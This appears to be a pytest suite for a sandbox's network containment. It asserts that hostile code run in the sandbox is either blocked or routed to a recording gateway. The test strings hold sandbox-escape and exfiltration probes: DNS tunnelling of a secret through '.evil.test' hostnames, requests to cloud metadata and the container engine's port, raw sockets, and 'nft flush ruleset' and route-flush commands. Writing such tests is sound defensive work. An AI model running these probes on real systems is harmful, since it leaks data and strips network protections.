"""Reaching the network.

`gateway` is a listener in the gateway's place: what it was told is what the report would show.
"""

from __future__ import annotations

import socket

import pytest

from tests.hostile.attack import attack
from tests.hostile.world import Arena
from tests.sandbox.world import Listener

NO_ADDRESS = "0.0.0.0"  # noqa: S104 - nothing listens there but for a test's moment
UNREACHABLE = {"ENETUNREACH", "EADDRNOTAVAIL", "EAFNOSUPPORT", "EPERM", "EACCES", "EHOSTUNREACH"}
# The shim has seen all that came before it sees this.
LAST = """
import socket
socket.create_connection(("192.0.2.99", 9999), 50).recv(1)
"""


@attack(
    "connects by TCP and UDP, IPv4 and IPv6, where it was given no gateway", meets="a network with no way out"
)
def test_without_a_gateway(arena: Arena) -> None:
    code = """
import socket
def attempt(family, kind, place):
    with socket.socket(family, kind) as s:
        s.settimeout(5); s.connect(place); s.send(b"x"); s.recv(1)
        return "answered"
v4, v6, tcp, udp = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM
for family, kind, place in (
    (v4, tcp, ("93.184.216.34", 443)), (v4, udp, ("8.8.8.8", 53)), (v6, tcp, ("2606:2800:220:1::1", 443)),
    (v6, udp, ("2001:4860:4860::8888", 53)),
    (v4, tcp, ("169.254.169.254", 80)), (v4, tcp, ("172.17.0.1", 80)),
): print(outcome(lambda: attempt(family, kind, place)))
"""
    words = arena.said(code).split()
    assert len(words) == 6
    assert set(words) <= UNREACHABLE


PLACES = {
    "a hard-coded address": ("93.184.216.34", 443),
    "a private network": ("10.1.2.3", 31337),
    "cloud metadata": ("169.254.169.254", 80),
    "the engine's bridge": ("172.17.0.1", 2375),
    "a port below 1024": ("198.51.100.7", 22),
    "the loopback": ("127.0.0.1", 15888),
    "all loopback": ("127.9.9.9", 53),
    "no address": (NO_ADDRESS, 8080),
    "IPv6": ("2001:db8::7", 8443),
    "IPv6 loopback": ("::1", 6379),
    "IPv4 in IPv6": ("::ffff:203.0.113.5", 443),
}


@attack(
    "connects to hard-coded addresses, private networks, metadata, loopback, any port, IPv6",
    meets="the shim, which hands it to the gateway under the address it asked for",
)
def test_any_address(arena: Arena, gateway: Listener) -> None:
    gateway.reply = b"from the gateway"
    code = f"""
import socket
for place in {list(PLACES.values())!r}:
    with socket.create_connection(place, 50) as s: print(s.recv(100).decode())
"""
    assert arena.said(code, gateway=gateway.path) == "from the gateway\n" * len(PLACES)
    seen = [gateway.next() for _ in PLACES]
    assert {one["kind"] for one in seen} == {"tcp"}
    told = [(one["ip"], one["port"]) for one in seen]
    # No address is this machine, and an IPv4 address in IPv6 clothes is that IPv4 address.
    same = {NO_ADDRESS: "127.0.0.1", "::ffff:203.0.113.5": "203.0.113.5"}
    assert told == [(same.get(ip, ip), port) for ip, port in PLACES.values()]


@attack(
    "calls services on the host's loopback and the host's own address", meets="the gateway in their place"
)
def test_services_of_the_host(arena: Arena, gateway: Listener) -> None:
    gateway.reply = b"the gateway"
    with socket.create_server(("127.0.0.1", 0)) as service, socket.create_server((NO_ADDRESS, 0)) as wide:
        service.setblocking(False)
        wide.setblocking(False)
        places = [service.getsockname(), *((ip, wide.getsockname()[1]) for ip in own_addresses())]
        code = f"""
import socket
for place in {places!r}:
    with socket.create_connection(place, 50) as s: print(s.recv(100).decode())
"""
        assert set(arena.said(code, gateway=gateway.path).splitlines()) == {"the gateway"}
        for listening in (service, wide):
            with pytest.raises(BlockingIOError):
                listening.accept()
    assert [(one["ip"], one["port"]) for one in (gateway.next() for _ in places)] == places


def own_addresses() -> list[str]:
    """The address this machine would send from; none where it has no network."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
        try:
            handle.connect(("192.0.2.1", 9))
        except OSError:
            return []
        return [handle.getsockname()[0]]


@attack("calls the host's loopback where it was given no gateway", meets="a loopback of its own")
def test_services_of_the_host_without_a_gateway(arena: Arena) -> None:
    with socket.create_server(("127.0.0.1", 0)) as service:
        code = (
            f"import socket; print(outcome(lambda: socket.create_connection({service.getsockname()!r}, 20)))"
        )
        assert arena.said(code) == "ECONNREFUSED\n"


@attack(
    "carries data out in the names it asks for", meets="the shim's own answer; each name is recorded whole"
)
def test_names_as_a_channel(arena: Arena, gateway: Listener) -> None:
    secret = "".join(f"{number:02x}" for number in range(60))
    code = f"""
import socket
for n in range(0, 120, 40): outcome(lambda: socket.gethostbyname({secret!r}[n:n + 40] + ".evil.test"))
print(socket.gethostbyname("api.exchange.test"))
"""
    assert arena.said(code + LAST, gateway=gateway.path) == "127.0.0.1\n"
    names = [one["name"] for one in gateway.until("port", 9999) if one["kind"] == "dns"]
    assert secret == "".join(dict.fromkeys(name[:40] for name in names if name.endswith(".evil.test")))
    assert "api.exchange.test" in names


@attack(
    "asks a name server of its choosing, for odd record types, over UDP and TCP",
    meets="the shim and the gateway",
)
def test_foreign_name_servers(arena: Arena, gateway: Listener) -> None:
    code = """
import socket, struct
head = bytes.fromhex("abcd01000001000000000000")
def query(kind): return head + b"\\6secret\\4evil\\4test\\0" + struct.pack("!HH", kind, 1)
for family, server in ((socket.AF_INET, "8.8.8.8"), (socket.AF_INET6, "2001:4860:4860::8888")):
    for kind in (16, 10, 33, 65, 4242):
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(20)
        s.sendto(query(kind), (server, 53)); print(len(s.recv(500)) == len(query(kind)))
socket.create_connection(("8.8.4.4", 53), 50).sendall(query(16))
"""
    assert set(arena.said(code + LAST, gateway=gateway.path).split()) == {"True"}
    seen = gateway.until("port", 9999)
    asked = [one["type"] for one in seen if one.get("name") == "secret.evil.test"]
    assert asked == ["TXT", "TYPE10", "SRV", "HTTPS", "TYPE4242"] * 2
    assert ("8.8.4.4", 53) in {(one.get("ip"), one.get("port")) for one in seen}


@attack(
    "sends datagrams: to any port, by multicast and broadcast, IPv6 too",
    meets="an empty network; all is reported",
)
def test_datagrams(arena: Arena, gateway: Listener) -> None:
    places = [("8.8.4.4", 443), ("224.0.0.251", 5353), ("255.255.255.255", 67), ("10.0.0.255", 137)]
    places_6 = [("2001:db8::9", 4433)]
    code = f"""
import socket
for family, places in ((socket.AF_INET, {places!r}), (socket.AF_INET6, {places_6!r})):
    for place in places:
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        print(place[0], outcome(lambda: s.sendto(b"secret", place)))
"""
    sent = dict(line.split() for line in arena.said(code + LAST, gateway=gateway.path).splitlines())
    seen = {(one["ip"], one["port"]) for one in gateway.until("port", 9999) if one["kind"] == "udp"}
    for place in places + places_6:
        # What the kernel refused to send went nowhere; all else is told.
        assert place in seen or sent[place[0]] in UNREACHABLE, (place, sent, seen)
    assert sent["8.8.4.4"] == sent["2001:db8::9"] == "6"


@attack("makes raw and packet sockets", meets="no right to them")
def test_raw_sockets(arena: Arena, gateway: Listener) -> None:
    code = """
import socket
for family, kind, number in ((2, 3, 1), (2, 3, 255), (2, 3, 17), (10, 3, 58), (17, 3, 3), (17, 2, 768)):
    print(outcome(lambda: socket.socket(family, kind, number) and "made"))
"""
    assert set(arena.said(code, gateway=gateway.path).split()) <= {"EPERM", "EACCES", "EAFNOSUPPORT"}


@attack("pings, and speaks SCTP, DCCP and UDP-Lite", meets="no such sockets, or the empty network")
def test_other_protocols(arena: Arena, gateway: Listener) -> None:
    code = """
import socket
def attempt(family, kind, number, address, data):
    with socket.socket(family, kind, number) as s:
        s.settimeout(3); s.connect((address, 9)); s.send(data)
        return s.recv(100)
ping = b"\\x08\\0" + bytes(6) + b"secret"
ping_6 = b"\\x80" + ping[1:]
for arguments in ((2, 2, 1, "8.8.8.8", ping), (10, 2, 58, "2001:db8::1", ping_6),
                  (2, 1, 132, "8.8.8.8", b"x"),
                  (2, 5, 132, "8.8.8.8", b"x"), (2, 6, 33, "8.8.8.8", b"x"), (2, 2, 136, "8.8.8.8", b"x")):
    answer = outcome(lambda: attempt(*arguments))
    print("own kernel" if isinstance(answer, bytes) and answer[:1] in (b"\\0", b"\\x81") else answer)
"""
    lines = set(arena.said(code, gateway=gateway.path).splitlines())
    # An echo may come back: every address is the sandbox's own, so its own kernel answers.
    refused = {
        "EPERM",
        "EACCES",
        "EPROTONOSUPPORT",
        "ESOCKTNOSUPPORT",
        "ECONNREFUSED",
        "EAFNOSUPPORT",
        "EINVAL",
    }
    assert lines <= {*refused, *UNREACHABLE, "own kernel", "timed out"}, lines


@attack("talks to the hypervisor and to devices: vsock, Bluetooth, CAN, NFC", meets="no such sockets")
def test_other_families(arena: Arena) -> None:
    code = """
import socket
allowed = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}
made = set()
for family in range(1, 64):
    for kind in (1, 2, 3, 5):
        if family not in allowed and works(lambda: socket.socket(family, kind, 0).close()): made.add(family)
print(sorted(made))
"""
    assert arena.said(code) == "[]\n"


@attack(
    "changes its network: addresses, routes, links, firewall rules",
    meets="no right to it",
)
def test_changing_the_network(arena: Arena, gateway: Listener) -> None:
    code = """
import fcntl, socket, struct, subprocess
header = lambda kind, body: struct.pack("IHHII", 16 + len(body), kind, 0x605, 1, 0) + body
RTM_NEWLINK, RTM_NEWADDR, RTM_NEWROUTE, RTM_DELROUTE, NFT_FLUSH = 16, 20, 24, 25, 10 << 8 | 2
for number, kind, body in ((0, RTM_NEWLINK, bytes(16)), (0, RTM_NEWADDR, bytes(8)),
                           (0, RTM_NEWROUTE, bytes(12)),
                           (0, RTM_DELROUTE, bytes(12)), (12, NFT_FLUSH, bytes(4))):
    def send():
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, number) as s:
            s.settimeout(5); s.send(header(kind, body))
            code = struct.unpack_from("i", s.recv(4096), 16)[0]
            if code: raise OSError(-code, "")
            return "changed"
    print(outcome(send))
with socket.socket() as s:
    print(outcome(lambda: fcntl.ioctl(s, 0x8914, struct.pack("16sh22x", b"lo", 0)) and "down"))
commands = ("ip link set lo down", "ip route flush table all", "ip addr add 10.9.9.9/8 dev lo",
            "nft flush ruleset")
for command in commands:
    try: done = subprocess.run(command.split(), capture_output=True, env={"PATH": "/usr/sbin:/sbin:/usr/bin"})
    except OSError: continue
    print("changed" if done.returncode == 0 else "EPERM")
print(socket.create_connection(("9.9.9.9", 99), 50).recv(9).decode())
"""
    gateway.reply = b"served"
    *words, last = arena.said(code, gateway=gateway.path).split()
    assert set(words) <= {"EPERM", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT", "ENOSYS"}
    assert last == "served"
    assert gateway.next() == {"kind": "tcp", "ip": "9.9.9.9", "port": 99, "descriptors": 1}


@attack("listens in the shim's or the name server's place, to answer itself", meets="ports that are taken")
def test_taking_the_shims_place(arena: Arena, gateway: Listener) -> None:
    code = """
import socket
def ports(name):
    lines = open("/proc/net/" + name).read().splitlines()[1:]
    return {int(line.split()[1].split(":")[1], 16) for line in lines}
taken = []
for kind, names in ((socket.SOCK_STREAM, ("tcp", "tcp6")), (socket.SOCK_DGRAM, ("udp", "udp6"))):
    for port in set().union(*map(ports, names)) - {0}:
        for ip in ("0.0.0.0", "127.0.0.1", "127.0.0.2"):
            s = socket.socket(socket.AF_INET, kind)
            for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
                s.setsockopt(socket.SOL_SOCKET, option, 1)
            if works(lambda: (s.bind((ip, port)), kind == socket.SOCK_STREAM and s.listen())):
                taken.append((ip, port))
mine = socket.create_server(("127.0.0.1", 8443))
print(taken, socket.create_connection(("127.0.0.1", 8443), 50).recv(9))
print(socket.gethostbyname("api.test"))
"""
    gateway.reply = b"served"
    assert arena.said(code, gateway=gateway.path) == "[] b'served'\n127.0.0.1\n"
    assert gateway.until("kind", "tcp")[-1]["port"] == 8443


@attack(
    "opens connections and says nothing, or hangs up in the middle",
    meets="a shim that does not wait for one connection",
)
def test_half_open_connections(arena: Arena, gateway: Listener) -> None:
    code = """
import socket, struct
kept = [socket.create_connection(("5.6.7.8", 1000 + n), 80) for n in range(60)]
for s in kept[::2]: s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)); s.close()
for s in kept[1::2]: s.shutdown(socket.SHUT_WR)
for n in range(300):
    s = socket.socket(); s.setblocking(False); s.connect_ex(("5.6.7.9", 1000 + n))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)); s.close()
print(socket.create_connection(("9.9.9.9", 999), 80).recv(100).decode())
"""
    gateway.reply = b"still here"
    assert arena.said(code, gateway=gateway.path) == "still here\n"
    seen = gateway.until("ip", "9.9.9.9")
    assert {one["port"] for one in seen if one["ip"] == "5.6.7.8"} == set(range(1000, 1060))


@attack("goes on connecting when the gateway is gone", meets="connections that are closed at once")
def test_a_gateway_that_is_gone(arena: Arena, gateway: Listener) -> None:
    nobody = gateway.path.with_name("nobody-listens.sock")
    with socket.socket(socket.AF_UNIX) as once:
        once.bind(str(nobody))
    code = """
import socket
for _ in range(20):
    with socket.create_connection(("9.9.9.9", 999), 50) as s: print(outcome(lambda: s.recv(1)))
"""
    try:
        assert set(arena.said(code, gateway=nobody).split()) <= {"b''", "ECONNRESET"}
    finally:
        nobody.unlink()
